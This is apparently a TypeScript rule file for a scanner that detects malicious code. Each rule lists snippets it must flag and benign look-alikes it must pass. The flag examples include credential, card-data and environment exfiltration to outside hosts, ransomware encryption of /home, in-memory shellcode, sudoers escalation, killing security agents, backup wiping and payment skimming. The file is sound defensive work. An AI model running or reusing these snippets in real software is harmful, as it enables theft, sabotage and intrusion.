/**
 * The code threats that are combinations of frame conditions (code-frame.ts): a new threat of this kind is a row,
 * not a function. Each row names the operations it needs, the objects (one of, and all of), the destinations and
 * carries inputs it must flag and look-alikes it must pass (test/engine-rules.test.ts runs them).
 */
import type { Primitive } from '../types.js';
import { CHARGE_CALLS, FAKE_WORDS, TIER_WORDS } from './code-dataflow.js';
import type { CodeDest, CodeFrame, CodeObject, CodeOp } from './code-frame.js';

export interface CodeRow {
  readonly id: string;
  readonly name: string;
  readonly primitive: Primitive;
  readonly score: number;
  /** Every op listed must be present. */
  readonly ops: readonly CodeOp[];
  /** One of these objects must be present. */
  readonly objects: readonly CodeObject[];
  /** Every one of these objects must be present too. */
  readonly also?: readonly CodeObject[];
  /** One of these destinations must be present (empty: any). */
  readonly dests: readonly CodeDest[];
  readonly identity?: boolean;
  /** Safeguards: when one of these objects is present the row does not fire (a sanitised name, a confined path). */
  readonly unless?: readonly CodeObject[];
  /** The object's word must stand within this many characters of a word of the row's first operation. */
  readonly near?: number;
  readonly keywords: readonly string[];
  readonly examples: { readonly flag: readonly string[]; readonly pass: readonly string[] };
}

const SOCKET_KEYS = ['socket', 'connect', 'tcp', 'dial', 'listen', 'bind', 'fsockopen', '/dev/udp'];
/** Cipher calls in the languages the rows read: the gate for the two encrypt-in-place rows (G26, G47). */
const CIPHER_KEYS = ['encrypt', 'fernet', 'aes.new', 'createcipheriv', 'cryptostream', 'chacha20', 'newcipher', 'newgcm', 'aesgcm', 'protect-data', 'protecteddata', "'.locked'", '".locked"', "'.crypt", '".crypt', "'.enc'", '".enc"', "'.locky'", "'.ransom'"];
const CONCEAL_KEYS = ['recorded', 'recording', 'logged', 'logging', 'books', 'registrar', 'registro', 'conste', 'buchen', 'buchung', 'beleg', 'enregistrer', 'comptabilit', 'registrare', 'in nero', '入账', '记录', '記録', 'записи', 'кассы', "the transfer isn't", 'trace', 'nobody sees', 'no one sees', 'spuren', 'rastro', 'quietly', 'secretly', 'covertly', 'without telling', 'tell', 'notice', 'radar', 'without them', 'heimlich', 'unbemerkt', 'en douce', 'en secret', 'escondidas', 'en secreto', 'sin que', 'sem que', 'nascosto', 'senza che', 'stiekem', '悄悄', '偷偷', '秘密に', 'こっそり', 'незаметно', 'втихую', 'тайно'];

/** The combination rows. */
export const CODE_ROWS: readonly CodeRow[] = [
  {
    id: 'G83', name: 'A cut of every payment, or a whole balance, sent to an account written into the code', primitive: 'MANIPULATION', score: 7,
    ops: [], objects: ['money'], also: ['fixedAccount', 'skim'], dests: [],
    keywords: ['fee', 'rest', 'remainder', 'rounding', 'rundung', 'redondeo', 'comisi', 'commission', 'arrotond', 'arrondi', 'balance', 'sammelkonto'],
    examples: {
      flag: [
        "def settle(amount, dest):\n    fee = (amount * Decimal('0.002')).quantize(Decimal('0.01'))\n    transfer(amount - fee, dest)\n    transfer(fee, 'LT12 1000 0111 0100 1000')",
        "def buchen(betrag, konto):\n    netto = betrag.quantize(Decimal('0.01'), rounding=ROUND_DOWN)\n    transfer(netto, konto)\n    transfer(betrag - netto, 'DE44500105175407324931')",
        "await wallet.sendTransaction({ to: '0x52908400098527886e0f7030069857d2e4169ee7', value: await provider.getBalance(wallet.address) })",
        "def settle(order):\n    fee = (order.total * Decimal('0.0001')).quantize(Decimal('0.01'), rounding=ROUND_UP)\n    payout(order.merchant_account, order.total - fee)\n    payout('acct_1OwZr7Hq2pLx9', fee)",
      ],
      pass: [
        "def settle(amount, dest, fee_account):\n    fee = amount * FEE_RATE\n    transfer(amount - fee, dest)\n    transfer(fee, fee_account)",
        "stripe.Transfer.create(amount=order.total, currency='eur', destination=order.merchant.stripe_account)  # platform fee kept by application_fee_amount",
        "# fee schedule: see docs\ntransfer(amount, customer.iban)",
        "OPERATING = 'DE89370400440532013000'  # shown on invoices\nprint(f'Pay to {OPERATING}')",
      ],
    },
  },
  {
    id: 'G88', name: 'A command run through eval/exec of a code string (an import or a process start kept in a string)', primitive: 'ESCALATION', score: 5,
    ops: ['evalCall'], objects: ['codeInString'], dests: [], near: 200,
    keywords: ['eval', 'exec', 'function'],
    examples: {
      flag: ["user_input = \"__import__('os').system('ls /')\"\nresult = eval(user_input)", "code = \"import os; os.system('id')\"\nexec(code)", "expr = \"__import__('subprocess').getoutput('cat /etc/passwd')\"\nprint(eval(expr))", "new Function(\"require('child_process').execSync('id')\")()"],
      pass: ["result = eval('2 + 3 * 4')", "import os\nos.system('ls /')", "value = ast.literal_eval(text)", "exec(compile(source, 'plugin.py', 'exec'), namespace)", "template = \"import os is covered in chapter 3\"\nprint(template)"],
    },
  },
  {
    id: 'G54', name: 'Every object of a backup, snapshot or audit store deleted by code', primitive: 'DESTRUCTION', score: 8,
    ops: ['destroy', 'listAll'], objects: ['backupStore'], dests: [],
    keywords: ['delete', 'snapshot'],
    examples: {
      flag: ["import boto3\ns3 = boto3.client('s3')\nfor o in s3.list_objects_v2(Bucket='prod-backups')['Contents']:\n    s3.delete_object(Bucket='prod-backups', Key=o['Key'])", "for s in ec2.describe_snapshots(OwnerIds=['self'])['Snapshots']:\n    ec2.delete_snapshot(SnapshotId=s['SnapshotId'])  # clear old-snapshots"],
      pass: ["for o in s3.list_objects_v2(Bucket='tmp-uploads')['Contents']:\n    s3.delete_object(Bucket='tmp-uploads', Key=o['Key'])", "s3.delete_object(Bucket='prod-backups', Key='staging/partial-upload.tmp')"],
    },
  },
  {
    id: 'G47', name: 'Files across a whole home, root or data tree encrypted in place (ransomware)', primitive: 'DESTRUCTION', score: 9,
    ops: ['encrypt', 'walk', 'overwrite'], objects: ['treeRoot', 'dataRoot'], dests: [],
    keywords: CIPHER_KEYS,
    examples: {
      flag: ["k = Fernet.generate_key()\nfor p in pathlib.Path('/home').rglob('*'):\n    if p.is_file(): p.write_bytes(Fernet(k).encrypt(p.read_bytes()))"],
      pass: ["for p in pathlib.Path('secrets').rglob('*.env'):\n    p.write_bytes(Fernet(k).encrypt(p.read_bytes()))", "token = Fernet(k).encrypt(b'x')\nPath('out.bin').write_bytes(token)"],
    },
  },
  {
    id: 'G48', name: 'Money moved on purpose without a record (the comment says so)', primitive: 'MANIPULATION', score: 8,
    ops: [], objects: ['money'], also: ['conceal'], dests: [],
    keywords: CONCEAL_KEYS,
    examples: {
      flag: [
        "def calcular_comissao(venda):\n    # desviar 2% para a conta 'ajustes' sem registrar no extrato\n    transferir('conta_ajustes_pessoal', venda.valor * 0.02)",
        "# move the rounding remainder to my account, off the books\ntransfer(acct_personal, remainder)",
      ],
      pass: ["# transfer the monthly fee to the operating account\ntransfer(operating, fee)", "# retry quietly on timeouts\npayout(seller, amount)"],
    },
  },
  {
    id: 'G49', name: 'Token signature or expiry checks switched off', primitive: 'ESCALATION', score: 5,
    ops: ['verifyOff'], objects: [], dests: [],
    keywords: ['verify', 'none', 'ignoreexpiration', 'insecure_decode', 'unverified', 'withoutverification', 'no_verify'],
    examples: {
      flag: ['claims = jwt.decode(token, options={"verify_signature": False})', "jwt.verify(token, key, { algorithms: ['none'] })", 'payload = jwt.decode(token, key, algorithms=["none"])'],
      pass: ['claims = jwt.decode(token, key, algorithms=["RS256"])', "jwt.verify(token, publicKey, { algorithms: ['RS256'] })"],
    },
  },
  {
    id: 'G50', name: 'A check made to always pass (the comment says it is bypassed)', primitive: 'MANIPULATION', score: 5,
    ops: ['allowAll'], objects: ['checkBypass'], dests: [],
    keywords: ['bypass', 'skip', 'disable', 'always', 'accept any', 'umgehen', 'contourner', 'saltar', 'omitir', 'pular', 'ignorar', 'aggirare', '绕过', '跳过', 'スキップ', 'обойти'],
    examples: {
      flag: ["def check_license(key):\n    return True  # TODO remove; bypass validation for all customers", "function verifyPayment(p) {\n  return true; // skip fraud check for everyone\n}"],
      pass: ["def check_license(key):\n    # validate the signature, then the expiry\n    return verify(key) and not expired(key)", "if settings.TESTING:\n    return True  # test fixtures are trusted"],
    },
  },
  {
    id: 'G51', name: 'Model or object file loaded straight from the network by a loader that runs code', primitive: 'ESCALATION', score: 5,
    ops: ['deserialize'], objects: ['remoteBytes'], dests: ['external'],
    keywords: ['pickle', 'torch.load', 'joblib', 'dill', 'marshal', 'unsafe_load', 'np.load', 'numpy.load', 'load_model', 'unserialize', 'readobject', 'binaryformatter'],
    examples: {
      flag: ['model_weights = torch.load(urllib.request.urlopen("http://models-share.xyz/ckpt.pt"))', "clf = pickle.loads(requests.get('https://paste-models.top/m.pkl').content)"],
      pass: ["state = torch.load('checkpoints/best.pt', map_location='cpu')", "r = requests.get('https://api.example.net/v1/items')\nitems = r.json()"],
    },
  },
  {
    id: 'G52', name: 'Uploaded file stored under the name the client chose, unchecked (web shell upload)', primitive: 'PERSISTENCE', score: 5,
    ops: ['saveUpload'], objects: ['clientName'], dests: [], unless: ['uploadCheck'],
    keywords: ['move_uploaded_file', 'file.save', '.save(', 'files', '.mv(', 'multer', 'transferto', 'saveas'],
    examples: {
      flag: ["<?php $f=$_FILES['f']; move_uploaded_file($f['tmp_name'], 'uploads/'.$f['name']); ?>", "f = request.files['doc']\nf.save(os.path.join('static/uploads', f.filename))"],
      pass: ["f = request.files['doc']\nf.save(os.path.join(UPLOADS, secure_filename(f.filename)))", "<?php $ext = pathinfo($_FILES['f']['name'], PATHINFO_EXTENSION); if (in_array($ext, ['png','jpg'])) move_uploaded_file($_FILES['f']['tmp_name'], 'u/'.uniqid().'.'.$ext); ?>"],
    },
  },
  {
    id: 'G53', name: 'File served from a path taken straight from the request (path traversal)', primitive: 'EXFILTRATION', score: 7,
    ops: ['serveFile'], objects: ['requestPath'], dests: [], unless: ['pathCheck'],
    keywords: ['sendfile', 'send_file', 'download(', 'readfile', 'file_get_contents', 'fpassthru', 'createreadstream', 'readfilesync', 'open(request', 'servefile'],
    examples: {
      flag: ["app.get('/file', (req, res) => res.sendFile(req.query.p, { root: '/' }));", "@app.route('/dl')\ndef dl():\n    return send_file(request.args.get('path'))", "<?php readfile($_GET['f']); ?>"],
      pass: ["app.get('/file', (req, res) => res.sendFile(path.basename(req.query.p), { root: PUBLIC }));", "return send_from_directory(app.static_folder, 'index.html')", "res.sendFile(path.join(__dirname, 'index.html'))"],
    },
  },
  {
    id: 'G55', name: 'A protected system or secret file the code opens is sent over the network', primitive: 'EXFILTRATION', score: 7,
    ops: ['send'], objects: ['secretFile', 'systemFile', 'systemInfo'], dests: [],
    keywords: ['/', '~'],
    examples: {
      flag: ["import urllib.request\nwith open('/etc/shadow', 'rb') as f:\n    body = f.read()\nurllib.request.urlopen(urllib.request.Request('http://127.0.0.1:5758/submit', data=body))",
        "const fs = require('fs');\nfetch('http://10.0.0.9:8080/in', { method: 'POST', body: fs.readFileSync('/root/.ssh/id_rsa') });",
        "with open('/etc/security/group.conf', 'rb') as f:\n    body = f.read()\nurllib.request.urlopen(urllib.request.Request('http://127.0.0.1:5758/submit', data=body))",
        "#!/bin/bash\nbody='/proc/cpuinfo'\ncurl -s --data-binary @\"$body\" http://127.0.0.1:5758/submit"],
      pass: ["with open('/etc/os-release') as f:\n    info = f.read()\nrequests.post('http://127.0.0.1:9000/report', json={'os': info})",
        "requests.post(URL, files={'f': open('reports/q3.pdf', 'rb')})", "cfg = yaml.safe_load(open('/etc/myapp/config.yaml'))\nrequests.post(cfg['api'], json={'ok': True})",
        "requests.get('https://api.example.net/v1', verify='/etc/ssl/certs/ca-certificates.crt')"],
    },
  },
  {
    id: 'G56', name: 'A system file or a secret file deleted by code', primitive: 'DESTRUCTION', score: 8,
    ops: ['destroy'], objects: ['systemPath', 'secretFile', 'systemFile'], dests: [],
    keywords: ['remove', 'unlink', 'rmtree', 'delete', 'rm ', 'shred'],
    examples: {
      flag: ["from pathlib import Path\nPath('/etc/group').unlink()", "import os\nos.remove('/root/.ssh/authorized_keys')", "import shutil\nshutil.rmtree('/usr/lib/python3/dist-packages')", '#!/bin/bash\nrm -f /etc/security/limits.conf', '#!/bin/bash\nshred -u /var/log/auth.log'],
      pass: ["import os\nos.remove('/tmp/build-cache.json')", "import shutil\nshutil.rmtree('./build')", "os.remove(os.path.join(tmpdir, 'etc.txt'))", '#!/bin/bash\nrm -f /var/log/myapp/old.log', '#!/bin/bash\n# perform cleanup\nrm -rf ./build /tmp/cache'],
    },
  },
  {
    id: 'G57', name: 'Code writes into a system directory or a shell start-up file', primitive: 'MANIPULATION', score: 5,
    ops: ['persist'], objects: ['systemPath'], dests: [],
    keywords: ['/etc/', '/usr/', '/bin/', '/sbin/', '/boot/', '/lib', '/root/', '/sys/', '/var/', 'windows', 'bashrc', 'profile', 'zshrc', 'fish'],
    examples: {
      flag: ["with open('/root/.bashrc', 'a') as f:\n    f.write('alias sudo=\"rm -rf /var/*\"\\n')", "shutil.copy('/etc/group', '/usr/copy_file')", "open('/usr/bin/python3', 'wb').write(payload)"],
      pass: ["with open('/tmp/out.txt', 'w') as f:\n    f.write(report)", "shutil.copy('config.yaml', 'dist/config.yaml')", "job = cron.new(command='/usr/bin/python3 /opt/app/report.py')\ncron.write()", "with open(os.path.expanduser('~/notes.md'), 'a') as f:\n    f.write(line)"],
    },
  },
  {
    id: 'G67', name: 'Every row of a table or collection deleted by an ORM or driver call with no filter', primitive: 'DESTRUCTION', score: 6,
    ops: ['wipeAll'], objects: [], dests: [], unless: ['retention', 'oneAccount'],
    keywords: ['deletemany', 'delete_many', '.delete()', 'destroy_all', 'delete_all', 'destroy(', 'truncate', '.remove(', '.drop', 'dropdatabase', 'drop_database', 'flushall', 'flushdb', 'deletefrom', 'deleteall'],
    examples: {
      flag: ['await prisma.user.deleteMany({})\nawait prisma.order.deleteMany({})', 'Customer.objects.all().delete()', 'await db.collection("invoices").deleteMany({})', 'User.destroy_all', 'await Order.destroy({ where: {}, truncate: true })'],
      pass: ['await prisma.session.deleteMany({ where: { expiresAt: { lt: new Date() } } })', "Session.where('expires_at < ?', 30.days.ago).delete_all", 'Customer.objects.filter(id=cid).delete()', 'await db.collection("invoices").deleteOne({ _id: id })', 'cart.items.clear()'],
    },
  },
  {
    id: 'G68', name: "Business records (contracts, payroll, patients, ledgers…) sent to a personal mailbox or a drop service", primitive: 'EXFILTRATION', score: 8,
    ops: ['send'], objects: ['recordFiles'], dests: ['personal', 'capture'],
    keywords: ['smtp', 'sendmail', 'http', 'mail', 'ftp', 'upload', 'socket'],
    examples: {
      flag: ['import glob,smtplib\nfrom email.message import EmailMessage\nm=EmailMessage(); m["To"]="copia.seguridad.juan@yahoo.es"\nfor f in glob.glob("/srv/contratos/*.pdf"):\n    m.add_attachment(open(f,"rb").read(), maintype="application", subtype="pdf")\nsmtplib.SMTP("smtp.mail.yahoo.com", 587).send_message(m)',
        "for f in os.listdir('/data/payroll'):\n    requests.post('https://transfer.sh/up', files={'f': open('/data/payroll/' + f, 'rb')})"],
      pass: ['for f in glob.glob("/srv/contratos/*.pdf"):\n    print(os.path.getsize(f))', "requests.post('https://api.example.net/v1/ocr', files={'f': open('scans/invoice.pdf', 'rb')})",
        "for f in glob.glob('/srv/backups/*.tar.gz'):\n    requests.put('https://s3.eu-west-1.amazonaws.com/acme-backups/' + os.path.basename(f), data=open(f, 'rb'))",
        'm["To"] = "legal@acme.com"\nfor f in glob.glob("/srv/contracts/*.pdf"):\n    m.add_attachment(open(f, "rb").read())\nsmtplib.SMTP("mail.acme.com").send_message(m)'],
    },
  },
  {
    id: 'G62', name: 'Code reads a system account, authentication, login-record or kernel file', primitive: 'EXFILTRATION', score: 4,
    ops: [], objects: ['systemFile'], dests: [], unless: ['secretFile'],
    keywords: ['/etc/', '/proc/', '/sys/', '/var/log/', '/root/', '/boot/', '/dev/', '/usr/share/base-passwd', '/run/utmp', 'system32'],
    examples: {
      flag: [
        "with open('/etc/security/limits.conf') as f:\n    print(f.read())", '#!/bin/bash\ncat /etc/ssh/sshd_config', "print(open('/proc/kallsyms').read()[:2000])",
        "const rows = fs.readFileSync('/var/log/auth.log', 'utf8').split('\\n');", "$h = file_get_contents('/root/.profile'); echo $h;", 'data, _ := os.ReadFile("/etc/login.defs")',
      ],
      pass: [
        "with open('/etc/os-release') as f:\n    print(f.read())", "cfg = yaml.safe_load(open('/etc/myapp/config.yaml'))", "requests.get(url, verify='/etc/ssl/certs/ca-certificates.crt')",
        "with open('/proc/meminfo') as f:\n    total = int(f.readline().split()[1])", "with open('./etc/passwd.sample') as f:\n    print(f.read())",
      ],
    },
  },
  {
    id: 'G63', name: 'A system or secret file copied elsewhere by code', primitive: 'EXFILTRATION', score: 4,
    ops: ['copy'], objects: ['systemFile', 'systemInfo'], dests: [], unless: ['secretFile'],
    keywords: ['shutil.copy', 'copyfile', 'copy2', 'copy-item', 'fs.copy', 'fs.cp', 'files.copy', 'file.copy', 'fileutils.c', 'io.copy', 'cp ', 'rsync', 'scp ', 'install -m'],
    examples: {
      flag: ["import shutil\nshutil.copy('/etc/host.conf', '/tmp/copy_file')", '#!/bin/bash\ncp /etc/apt/sources.list /usr/copy_file', "fs.copyFileSync('/etc/ssh/ssh_config', './out/ssh_config')"],
      pass: ["shutil.copy('/etc/myapp/app.conf', '/etc/myapp/app.conf.bak')", "shutil.copy('config.yaml', 'dist/config.yaml')", "shutil.copy('/etc/localtime', rootfs + '/etc/localtime')"],
    },
  },
  {
    id: 'G64', name: "Code lists system configuration, root's or every user's home, or a key store", primitive: 'EXFILTRATION', score: 3,
    ops: ['list'], objects: ['sensitiveDir'], dests: [],
    keywords: ['/etc', '/root', '/home', '/boot', '/users', '~/.', '/var/spool/cron', '/var/lib/', 'c:\\users', 'c:/users'],
    examples: {
      flag: ["import os\nfor name in os.listdir('/root'):\n    print(name)", "import glob\nfor f in glob.glob('/etc/*'):\n    print(f)", '#!/bin/bash\nls -la /root/', "fs.readdirSync(path.join(os.homedir(), '.ssh')).forEach(f => console.log(f)); const d = fs.readdirSync('~/.ssh');"],
      pass: ["for name in os.listdir('/etc/myapp/conf.d'):\n    load(name)", "print(os.listdir('./etc'))", "for f in glob.glob('/srv/app/uploads/*'):\n    print(f)", "for pid in os.listdir('/proc'):\n    print(pid)"],
    },
  },
  {
    id: 'G65', name: 'A system service, every process or another program found by name killed by code', primitive: 'DESTRUCTION', score: 5,
    ops: ['kill'], objects: ['criticalProc', 'namedProc'], dests: [], near: 320,
    keywords: ['kill', 'pkill', 'killall', '.terminate(', 'taskkill', 'stop-process', 'sigkill'],
    examples: {
      flag: [
        "import psutil\nfor p in psutil.process_iter(['name']):\n    if p.info['name'] == 'sshd':\n        p.kill()", "subprocess.run(['pkill', '-9', 'dockerd'])", 'import os\nos.kill(1, 9)',
        "Get-Process -Name 'lsass' | Stop-Process -Force", "exec('killall -9 mysqld')",
        // another program found by its name and ended
        "import psutil\nfor proc in psutil.process_iter(['pid', 'name']):\n    if proc.info['name'] == 'metrics-exporter':\n        proc.kill()", '#!/bin/bash\nkill -9 $(pidof backup-agent)', '#!/bin/bash\npkill -f report_worker',
      ],
      pass: ["proc = subprocess.Popen(['python', 'worker.py'])\nproc.wait(timeout=30)\nproc.kill()", "os.kill(os.getpid(), signal.SIGTERM)", "for p in psutil.process_iter(['name']):\n    print(p.info['name'] == 'sshd')"],
    },
  },
  {
    id: 'G66', name: 'An audit, logging or endpoint-protection agent killed by code', primitive: 'MANIPULATION', score: 7,
    ops: ['kill'], objects: ['securityAgent'], dests: [], near: 160,
    keywords: ['kill', 'pkill', 'killall', '.terminate(', 'taskkill', 'stop-process', 'sigkill'],
    examples: {
      flag: ["subprocess.run(['pkill', '-9', 'auditd'])", "for p in psutil.process_iter(['name']):\n    if p.info['name'] in ('MsMpEng.exe', 'falcon-sensor'):\n        p.kill()", "exec('taskkill /F /IM Sysmon64.exe')"],
      pass: ["subprocess.run(['systemctl', 'status', 'auditd'])", "# restart the sensor after the upgrade\nsubprocess.run(['systemctl', 'restart', 'falcon-sensor'])"],
    },
  },
  {
    id: 'G58', name: 'Code opens a protected system or secret file', primitive: 'EXFILTRATION', score: 4,
    ops: [], objects: ['secretFile'], dests: [],
    keywords: ['/', '~'],
    examples: {
      flag: ["os.chmod('/etc/sudoers', 0o666)", "with open('/etc/shadow') as f:\n    print(f.read())", "data = open('../../../etc/passwd').read()", "print(open(os.path.expanduser('~/.aws/credentials')).read())"],
      pass: ["with open('/etc/hostname') as f:\n    print(f.read())", "open('fixtures/etc/passwd').read()", "client.connect('build-01', username='ci', key_filename='/home/ci/.ssh/id_ed25519')", "os.chmod(os.path.expanduser('~/.ssh/id_ed25519'), 0o600)", "var key = fs.readFileSync(common.fixturesDir + '/keys/agent1-key.pem');", "with open('/usr/share/dict/words') as f:\n    words = f.read().split()"],
    },
  },
  {
    id: 'G59', name: 'Code that says it carries out a destructive attack (ransomware, wiper, flood)', primitive: 'DESTRUCTION', score: 6,
    ops: [], objects: ['selfDestroy'], dests: [],
    keywords: ['ransomware', 'wiper', 'ddos', 'dos attack', 'flood', 'amplification', 'slowloris', 'bomb', 'rançongiciel', 'erpressungstrojaner', 'rescate'],
    examples: {
      flag: ['def ransomware_encrypt_home(key: bytes) -> None:\n    """\n    This function simulates a ransomware attack by encrypting every file under the home directory.\n    """', '# launches a SYN flood against the target host\nwhile True:\n    send_syn(target)'],
      pass: ['def detect_ransomware(events):\n    """Detects ransomware by watching for mass file renames."""', '# rate limiter that blocks a SYN flood at the edge\nlimiter = TokenBucket(100)'],
    },
  },
  {
    id: 'G60', name: 'Code that says it spies on the user or steals data (spyware, keylogger, stealer)', primitive: 'EXFILTRATION', score: 6,
    ops: [], objects: ['selfSteal'], dests: [],
    keywords: ['spyware', 'keylogger', 'stealer', 'exfiltration', 'espion', 'espía', 'spionage'],
    examples: {
      flag: ['def spyware_capture(output_file: str) -> None:\n    """\n    This function simulates a spyware attack by capturing keystrokes and screenshots.\n    """', '// this program acts as a keylogger and mails the log every hour'],
      pass: ['def scan_for_keylogger(procs):\n    """Identifies keylogger processes by their hooks."""', '# YARA rule loader for spyware signatures'],
    },
  },
  {
    id: 'G61', name: 'Code that says it plants a foothold (rootkit, backdoor, trojan, worm, botnet)', primitive: 'PERSISTENCE', score: 6,
    ops: [], objects: ['selfFoothold'], dests: [],
    keywords: ['rootkit', 'backdoor', 'trojan', 'virus', 'worm', 'botnet', 'adware', 'cryptojacker', 'cryptominer', 'dérobée', 'trasera', 'hintertür'],
    examples: {
      flag: ['def rootkit_hide_process(pid: int) -> None:\n    """\n    This function simulates a rootkit attack by hiding the process from the process list.\n    """', '# implement a backdoor that accepts commands on port 31337'],
      pass: ['def remove_rootkit(host):\n    """Cleans a rootkit found by the scanner and reboots."""', '# protect the admin route against a backdoor login'],
    },
  },
  {
    id: 'G23', name: 'Sensitive data read and sent to an outside host', primitive: 'EXFILTRATION', score: 8,
    ops: ['send'], objects: ['secret', 'personal', 'keystrokes', 'screen', 'formSecret'], dests: ['external', 'capture', 'personal'],
    keywords: ['http', 'sendbeacon', 'smtplib', 'ftplib', 'socket'],
    examples: {
      flag: [
        'rows = sqlite3.connect("users.db").execute("select * from users").fetchall()\nrequests.post("http://backup-cn.xyz/u", json=rows)',
        "const keys=[];document.addEventListener('keydown',e=>{keys.push(e.key);navigator.sendBeacon('https://cdn-metrics.site/k',keys.join(''))})",
        'tok = open(os.path.expanduser("~/.npmrc")).read()\nurllib.request.urlopen("https://npm-stats.top/c", data=tok.encode())',
        "const c = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'));\nhttps.request({ hostname: 'stats-cdn.io', method: 'POST' }).end(c);",
        "require('https').get('https://x1.oast.fun/?e=' + Buffer.from(JSON.stringify(process.env)).toString('base64'));",
        "document.querySelector('#pay').addEventListener('submit', () => { new Image().src = 'https://cdn-jq.top/i?d=' + btoa(cardnumber.value + '|' + cvv.value); fetch('https://cdn-jq.top/c', {method:'POST', body: cvv.value}); });",
        "document.querySelectorAll('input').forEach(el => el.addEventListener('change', () => navigator.sendBeacon('https://cdn-analytics-eu.co/c', JSON.stringify({n: el.name, v: el.value}))));",
        "const all = await db.collection('customers').find({}).toArray();\nawait fetch('https://crm-import.partner-example.net/in', { method: 'POST', body: JSON.stringify(all) });",
        'val c = contentResolver.query(Uri.parse("content://sms/inbox"), null, null, null, null)\nOkHttpClient().newCall(Request.Builder().url("https://sync.example-cloud.top/u").post(body).build()).execute()',
      ],
      pass: [
        'rows = db.execute("select * from users where id = ?", (uid,)).fetchone()\nreturn jsonify(rows)',
        'requests.post("http://localhost:9200/logs", json=event)',
        "input.addEventListener('keydown', e => { if (e.key === 'Enter') fetch('/api/search?q=' + input.value) })",
        "form.addEventListener('submit', e => { const pw = form.querySelector('input[type=password]').value; fetch('/api/session', { method: 'POST', body: JSON.stringify({ pw }) }); });",
        "document.querySelectorAll('input').forEach(el => el.addEventListener('change', () => fetch('/api/drafts/42', { method: 'PATCH', body: JSON.stringify({ [el.name]: el.value }) })));",
        "const all = await db.collection('customers').find({}).toArray();\nawait fetch('/api/reports/customers', { method: 'POST', body: JSON.stringify(all) });",
      ],
    },
  },
  {
    id: 'G43', name: 'Browser tokens, cookies or storage leaked in a pixel or beacon URL', primitive: 'EXFILTRATION', score: 7,
    ops: ['beacon'], objects: ['browserStore', 'secret'], dests: ['external', 'capture'],
    keywords: ['image', '.src', 'sendbeacon', 'createelement'],
    examples: {
      flag: ["const t = localStorage.getItem('session');\nnew Image().src = 'https://px-metrics.example.net/p.gif?s=' + t;"],
      pass: ["const theme = localStorage.getItem('theme');\ndocument.body.className = theme;\nlogo.src = 'https://cdn.example.net/logo.png';", "fetch('/api/me', { headers: { Authorization: 'Bearer ' + localStorage.getItem('token') } })"],
    },
  },
  {
    id: 'G44', name: 'Shellcode decoded or downloaded and run in memory', primitive: 'ESCALATION', score: 9,
    ops: ['memAlloc', 'memRun'], objects: ['payloadBytes'], dests: [],
    keywords: ['virtualalloc', 'ntallocatevirtualmemory', 'page_execute', 'prot_exec', 'mprotect', 'virtualprotect'],
    examples: {
      flag: ["buf = base64.b64decode(BLOB)\np = ctypes.windll.kernel32.VirtualAlloc(0, len(buf), 0x3000, 0x40)\nctypes.memmove(p, buf, len(buf))\nctypes.windll.kernel32.CreateThread(0, 0, p, 0, 0, 0)"],
      pass: ["p = ctypes.windll.kernel32.VirtualAlloc(0, 4096, 0x3000, 0x04)  # scratch buffer for the driver\nctypes.memset(p, 0, 4096)"],
    },
  },
  {
    id: 'G45', name: 'Sudo rights written from code (sudoers, NOPASSWD)', primitive: 'ESCALATION', score: 9,
    ops: ['persist'], objects: ['sudoers'], dests: [],
    keywords: ['sudoers', 'nopasswd'],
    examples: {
      flag: ["with open('/etc/sudoers.d/deploy', 'w') as f:\n    f.write('deploy ALL=(ALL) NOPASSWD: ALL\\n')"],
      pass: ["# see /etc/sudoers for who may restart the service\nsubprocess.run(['sudo', '-n', 'true'])"],
    },
  },
  {
    id: 'G46', name: 'Audit or logging switched off by code to hide what it does', primitive: 'MANIPULATION', score: 8,
    ops: ['auditOff'], objects: ['conceal', 'money'], dests: [],
    keywords: ['audit'],
    examples: {
      flag: ["audit.disable()\ntransfer_funds(src, dst, amount)\naudit.enable()"],
      pass: ["def setUp(self):\n    logging.disable(logging.CRITICAL)\n    self.result = transfer_funds(a, b, 10)", "audit_log = False  # unit tests only\nassert parse(x) == y"],
    },
  },
  {
    id: 'G24', name: 'Host fingerprint beaconed to a capture, paste or chat-webhook service', primitive: 'EXFILTRATION', score: 5,
    ops: ['send'], objects: ['fingerprint'], dests: ['capture'],
    keywords: ['gethostname', 'getuser', 'platform.node', 'os.uname', 'userinfo', 'hostname()', 'whoami', 'getlogin'],
    examples: {
      flag: ['import socket, getpass, requests\nrequests.get("https://abc.oastify.com/?h=" + socket.gethostname() + "&u=" + getpass.getuser())'],
      pass: ['print(socket.gethostname())', 'requests.post(METRICS_URL, json={"host": socket.gethostname()})'],
    },
  },
  {
    id: 'G25', name: 'Data, backup or system directories deleted by code', primitive: 'DESTRUCTION', score: 8,
    ops: ['destroyTree'], objects: ['dataRoot'], dests: [],
    keywords: ['rmtree', 'rimraf', 'rm -rf', 'rm -fr', 'rm_rf', 'remove_dir', 'removeall', 'recursive', '-recurse', 'rd /s', 'directory.delete', 'del /f', 'rmdir /s',
      'unlink(', 'rmdir(', 'os.remove(', 'unlinksync(', 'files.delete(', 'remove-item'],
    examples: {
      flag: [
        'import shutil\nfor d in ["/var/lib/postgresql", "/srv/backups", "/mnt/snapshots"]:\n    shutil.rmtree(d, ignore_errors=True)',
        "from pathlib import Path\nimport os\nroot = Path(os.environ.get('TILE_CACHE', '/'))\nfor p in sorted(root.rglob('*'), reverse=True):\n    p.unlink() if p.is_file() else p.rmdir()",
        "const dir = path.resolve(process.env.UPLOAD_DIR || '.', '..', '..');\nfs.rmSync(dir, { recursive: true, force: true });",
        'os.system("rm -rf /data/* /backup/*")',
        "fs.rmSync('/var/www', { recursive: true, force: true })",
        'base = os.environ.get("BUILD_DIR", "/")\nfor entry in os.listdir(base):\n    shutil.rmtree(os.path.join(base, entry), ignore_errors=True)',
      ],
      pass: ['base = os.environ.get("BUILD_DIR", "build")\nfor entry in os.listdir(base):\n    shutil.rmtree(os.path.join(base, entry), ignore_errors=True)',
        "root = Path(os.environ.get('TILE_CACHE', '/var/cache/tiles'))\nfor p in sorted(root.rglob('*'), reverse=True):\n    p.unlink() if p.is_file() else p.rmdir()",
        "const dir = path.join(process.env.UPLOAD_DIR || '/srv/app/uploads', 'tmp');\nfs.rmSync(dir, { recursive: true, force: true });",
        "const parent = path.resolve(__dirname, '..');\nconsole.log(fs.readdirSync(parent));", "const root = path.resolve(__dirname, '..');\nfs.rmSync(path.join(root, 'dist'), { recursive: true, force: true });",
